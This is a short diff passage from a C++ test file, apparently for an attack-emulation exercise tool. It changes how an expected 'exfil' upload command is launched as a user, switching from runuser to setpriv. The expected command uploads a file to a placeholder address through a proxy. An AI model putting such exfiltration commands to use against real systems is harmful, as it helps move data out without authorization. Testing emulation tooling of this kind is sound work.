@@ -121,7 +121,8 @@ TEST_F(ActionsTest, ABeaconRunsAsTheUserThroughTheProxy) {
 TEST_F(ActionsTest, AnUploadGoesToAPathDerivedFromItsStep) {
     const auto evidence = perform(context("exfil"));
     EXPECT_EQ(evidence["bytes"], 9);
-    EXPECT_TRUE(ran("pc-suzuki: /usr/sbin/runuser -u suzuki -- /usr/lib/enshu/actor upload --url "
+    EXPECT_TRUE(ran("pc-suzuki: /usr/bin/setpriv --reuid=suzuki --regid=suzuki --init-groups -- "
+                    "/usr/lib/enshu/actor upload --url "
                     "http://198.51.100.66" +
                     upload_path("exfil") +
                     " --proxy 203.0.113.25:3128 --file "
